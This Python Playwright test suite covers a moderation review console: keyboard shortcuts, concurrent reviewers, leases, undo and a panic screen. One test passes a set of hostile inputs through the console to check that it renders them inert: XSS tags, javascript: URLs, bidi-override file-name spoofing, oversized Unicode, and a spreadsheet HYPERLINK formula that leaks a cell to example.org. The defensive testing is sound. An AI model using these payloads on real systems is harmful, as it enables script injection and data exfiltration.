"""The console in a real Chromium: by keyboard alone, two at once, a lease lost, hostile text, without scripts."""

import re
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import pytest
from playwright.sync_api import expect
from sqlalchemy import func, select, update

from serving.accounts import people
from serving.accounts.people import Profile
from serving.runtime import Runtime
from serving.store.tables import cases, decisions, events
from tests.serving.console.pages import Keep, Make, Open, case_id, in_chromium, next_case, press, settle

pytestmark = in_chromium


def test_twenty_cases_by_keyboard(open_console: Open, keep: Keep, report: Make, runtime: Runtime) -> None:
    texts = ["you are useless", "good day", "a discount for you", "We will ambush you", "Your parcel waits"]
    keep(*(report(f"r-{number}", f"{texts[number % 5]} {number}") for number in range(20)))
    page = open_console()
    seen = {next_case(page)}
    for number in range(20):
        if page.locator("details.veil").count():
            page.keyboard.press("t")
            expect(page.locator(".text")).to_be_visible()
        if number % 3 == 0 and page.locator("[data-key=a]").count():
            press(page, "a")
        elif number % 3 == 1:
            page.keyboard.press("v")
            page.keyboard.press("2")
            page.keyboard.press("g")
            page.keyboard.press("ArrowRight")
            page.keyboard.press("Space")
            page.keyboard.press("n")
            page.keyboard.type("o, I see? a 3")  # letters are letters where one writes
            page.keyboard.press("Tab")
            press(page, "s")
        else:
            page.keyboard.press("o")
            press(page, "s")
        if number < 19:
            seen.add(case_id(page))
    page.wait_for_selector("text=No case waits")
    assert len(seen) == 20
    with runtime.store.read() as connection:
        rows = connection.execute(select(decisions.c.outcome, decisions.c.note, decisions.c.severity)).all()
    assert len(rows) == 20
    noted = [row for row in rows if row.note]
    assert noted and all((row.outcome, row.note, row.severity) == ("violation", "o, I see? a 3", 2) for row in noted)


def test_two_at_once_never_see_the_same(open_console: Open, keep: Keep, report: Make) -> None:
    keep(*(report(f"r-{number}", f"good day {number}") for number in range(12)))
    pages = [open_console("reviewer"), open_console("reviewer2")]
    seen = [next_case(page) for page in pages]
    for _ in range(5):
        for page in pages:
            page.keyboard.press("o")
            settle(page)
            page.keyboard.press("s")
        for page in pages:
            page.wait_for_function(f"!{seen!r}.includes(document.querySelector('#decision [name=case_id]')?.value)")
            seen.append(case_id(page))
    assert len(set(seen)) == 12


def test_a_lease_lost_in_the_middle(open_console: Open, keep: Keep, report: Make, runtime: Runtime) -> None:
    keep(report("r-1", "good day"))
    page = open_console(fake_time=True)
    next_case(page)
    page.keyboard.press("o")
    page.keyboard.press("n")
    page.keyboard.type("what I thought")
    with runtime.store.write() as connection:
        connection.execute(update(cases).values(claim_expires_at=datetime.now(UTC) - timedelta(seconds=1)))
    page.clock.fast_forward(21_000)
    expect(page.locator("#lease.lost")).to_contain_text("ran out")
    page.clock.fast_forward(1_000)
    expect(page.locator("[data-key=s]")).to_be_disabled()
    assert page.locator("#note").input_value() == "what I thought"
    page.evaluate("document.querySelector('#decision').submit()")  # a page that does not know yet
    page.wait_for_selector("text=Nothing was saved")
    with runtime.store.read() as connection:
        assert connection.execute(select(func.count()).select_from(decisions)).scalar_one() == 0


def test_what_fails_is_told(open_console: Open, keep: Keep, report: Make, runtime: Runtime) -> None:
    keep(report("r-1", "a useless discount"))
    page = open_console(fake_time=True)
    next_case(page)
    page.route(re.compile("/console/(extend|dismiss|pulse)"), lambda route: route.fulfill(status=429))
    for key in "lx":
        page.keyboard.press(key)
        expect(page.locator("#failed")).to_contain_text("did not work")
    expect(page.get_by_role("heading", name="Hints")).to_be_visible()
    expect(page.locator("[data-key=s]")).to_be_enabled()
    page.clock.fast_forward(1000 * runtime.settings.lease_seconds)
    page.clock.fast_forward(1_000)
    expect(page.locator("[data-key=s]")).to_be_disabled()
    page.unroute_all()
    page.clock.fast_forward(20_000)
    expect(page.locator("#failed")).to_be_hidden()
    expect(page.locator("[data-key=s]")).to_be_enabled()  # the service still holds the case for us


def test_no_second_click_decides(open_console: Open, keep: Keep, report: Make, runtime: Runtime) -> None:
    keep(report("r-1", "a useless discount"), report("r-2", "a useless offer"))
    page = open_console()
    first = next_case(page)
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url) if "/decide" in request.url else None)
    settle(page)
    young = "document.documentElement.classList.remove('ready')"
    page.evaluate(f"{young}; document.querySelector('[data-key=a]').click()")
    assert (case_id(page), sent) == (first, [])
    with page.expect_navigation():
        page.evaluate(
            "document.documentElement.classList.add('ready');"
            "for (const time of [1, 2]) document.querySelector('[data-key=a]').click()"
        )
    assert case_id(page) != first
    assert len(sent) == 1


def test_undo_within_ten_seconds(open_console: Open, keep: Keep, report: Make, runtime: Runtime) -> None:
    keep(report("r-1", "good day"), report("r-2", "you are useless"))
    page = open_console(fake_time=True)
    first = next_case(page)
    page.keyboard.press("o")
    page.clock.fast_forward(1_000)
    press(page, "s")
    second = case_id(page)
    with page.expect_navigation():
        page.keyboard.press("z")
    assert case_id(page) == first != second
    expect(page.locator(".notice:visible")).to_contain_text("Undone")
    page.clock.fast_forward(1_000)
    page.keyboard.press("o")
    press(page, "s")
    assert case_id(page) == second
    expect(page.locator(".undo")).to_be_visible()
    page.clock.fast_forward(11_000)
    expect(page.locator(".undo")).to_have_count(0)


def test_the_panic_key_and_the_way_back(open_console: Open, keep: Keep, report: Make) -> None:
    keep(report("r-1", "you are useless"))
    page = open_console()
    next_case(page)
    page.keyboard.press("n")
    page.keyboard.type("half a")
    page.keyboard.press("Escape")
    expect(page.locator("#screen")).to_be_hidden()
    assert page.title() == "Frontline"
    page.keyboard.press("s")  # nothing is decided behind a clear screen
    page.keyboard.press("Enter")
    expect(page.locator("#screen")).to_be_visible()
    page.keyboard.type(" note")
    assert page.locator("#note").input_value() == "half a note"
    page.keyboard.press("Tab")
    page.keyboard.press("?")
    expect(page.locator("#keys")).to_contain_text("Save, next case")
    page.keyboard.press("Escape")
    expect(page.locator("#keys")).to_be_hidden()
    expect(page.locator("#screen")).to_be_visible()
    page.goto("/console/away")
    press(page, "n")
    case_id(page)


def test_enter_never_agrees(open_console: Open, keep: Keep, report: Make, runtime: Runtime) -> None:
    keep(report("r-1", "a useless discount"))
    page = open_console()
    next_case(page)
    page.keyboard.press("o")
    press(page, "Enter")
    with runtime.store.read() as connection:
        assert connection.execute(select(decisions.c.outcome)).scalars().all() == ["no_violation"]


def test_hints_are_put_away_and_changed(
    open_console: Open, keep: Keep, report: Make, runtime: Runtime, staff: SimpleNamespace
) -> None:
    people.save_profile(runtime.store, staff.reviewer, Profile(mask_words=True))
    keep(report("r-1", "a useless discount"))
    page = open_console()
    next_case(page)
    expect(page.locator("mark").first).to_be_visible()
    expect(page.locator(".text")).to_contain_text("u••••••")
    page.keyboard.press("c")
    assert page.locator("[name=outcome]:checked").input_value() == "violation"
    assert page.locator("[name=severity]:checked").input_value() == "2"
    assert page.locator("[name=category]:checked").count() == 2
    page.keyboard.press("o")
    assert page.locator("[name=category]:checked").count() == 0
    page.keyboard.press("v")
    page.get_by_role("link", name="Show them").click()
    expect(page.locator(".text")).to_contain_text("useless")
    assert page.locator("[name=outcome]:checked").input_value() == "violation"  # what was filled in is still there
    page.keyboard.press("x")
    expect(page.get_by_role("heading", name="Hints")).to_be_hidden()
    expect(page.locator(".unhint")).to_be_visible()
    expect(page.locator("[data-key=a]")).to_be_hidden()
    page.wait_for_load_state("networkidle")
    with runtime.store.read() as connection:
        kinds = connection.execute(select(events.c.kind)).scalars().all()
    assert "hints_dismissed" in kinds


HOSTILE = {
    "script": '<script>alert(1)</script><img src=x onerror=alert(2)> useless "><svg onload=alert(3)>',
    "direction": "useless \u202egnp.exe\u202c \u2066\u2067 and \u200b more",
    "marks": "useless e" + "\u0301" * 99_000 + " end",
    "emoji": "useless " + "\U0001f469\u200d\U0001f469\u200d\U0001f466" * 4_000 + "\U0001f9b8" * 10_000,
    "formula": '=HYPERLINK("http://example.org/?leak="&A1,"useless") +1-1 @SUM(1)',
    "wide": "useless" + "W" * 20_000,
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_text_is_inert(kind: str, open_console: Open, keep: Keep, report: Make) -> None:
    text = HOSTILE[kind]
    context = [{"role": "parent\u202e", "text": text}]
    extra = {"context": context, "url": "javascript:alert(4)", "attachments": [{"url": "javascript:alert(5)"}]}
    keep(report("r-1", text, note=text, reason="<script>x</script>\u202e", content=extra))
    page = open_console(viewport={"width": 360, "height": 740})
    next_case(page)
    if page.locator("details.veil").count():
        page.keyboard.press("t")
    expect(page.locator(".text")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    shown = page.locator(".text").evaluate("element => element.textContent")
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b]", page.evaluate("document.body.innerText"))
    assert page.locator("main script, main img, main svg, main a[href^=javascript]").count() == 0
    if kind == "marks":
        assert "marks⟩" in shown and len(shown) < 200
    if kind == "direction":
        assert "⟨RLO⟩gnp.exe⟨PDF⟩" in shown
    if kind in ("script", "formula", "wide"):
        assert shown.replace("\n", "").startswith(text[:10])
    heights = page.locator(".text").evaluate("e => [e.getBoundingClientRect().height, innerHeight]")
    assert heights[0] <= heights[1]


def test_without_scripts(open_console: Open, keep: Keep, report: Make) -> None:
    keep(report("r-1", "you are useless"), report("r-2", "good day"))
    page = open_console(java_script_enabled=False)
    page.get_by_role("button", name="Next case").click()
    page.get_by_role("link", name="Change").click()
    assert page.get_by_role("radio", name="Violation V").is_checked() or page.locator("[value=violation]").is_checked()
    page.get_by_role("button", name="Agree").click()
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".notice:visible")).to_contain_text("Undone")
    expect(page.locator(".notice:visible")).to_be_focused()
    page.get_by_role("button", name="Dismiss the hints").click()
    page.get_by_role("button", name="Keep it longer").click()
    expect(page.locator(".unhint")).to_be_visible()
    page.locator("[value=no_violation]").check()
    page.get_by_role("button", name="Save, next case").click()
    page.get_by_role("link", name="Clear the screen").click()
    expect(page.get_by_role("heading", name="The screen is clear")).to_be_visible()
    page.get_by_role("button", name="Put it back").click()
    expect(page.locator(".notice:visible")).to_contain_text("went back")
